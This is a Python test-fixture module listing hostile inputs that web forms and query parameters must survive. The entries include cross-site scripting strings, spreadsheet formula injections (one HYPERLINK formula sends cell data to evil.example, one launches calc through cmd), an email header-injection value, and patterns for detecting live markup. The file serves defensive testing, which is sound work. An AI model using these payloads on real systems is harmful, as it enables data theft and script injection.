"""Hostile inputs every form and query parameter must survive: refused with a message or stored
inert, never a 500 and never live markup, formula or header.

One list shared by the walk (`test_corpus_walk.py`) and any app's own tests.
"""

from __future__ import annotations

XSS = [
    "<script>alert('ps-xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
CRLF = ["subject\r\nBcc: victim@example.com", "line\nbreak", "tab\there\rcarriage"]
HUGE = [str(10**30), str(-(10**30)), "9" * 400, "1e400", "-0", "NaN"]
LONG = ["ก" * 10_000, "x" * 100_000]
THAI = ["สม\u200bชาย\u200cใจ\u200dดี", "\ufeffเทศบาล\u2060", "๑๒๓", "\u202eRTL"]

ALL = [*XSS, *FORMULAS, *CRLF, *HUGE, *LONG, *THAI]

# A payload is inert in HTML when none of these appears raw in the response: each starts with "<",
# which escaping always changes, so an escaped payload (shown as text) never matches.
LIVE_MARKUP = ["<script>alert('ps-xss')", "<img src=x onerror=", "<svg onload="]
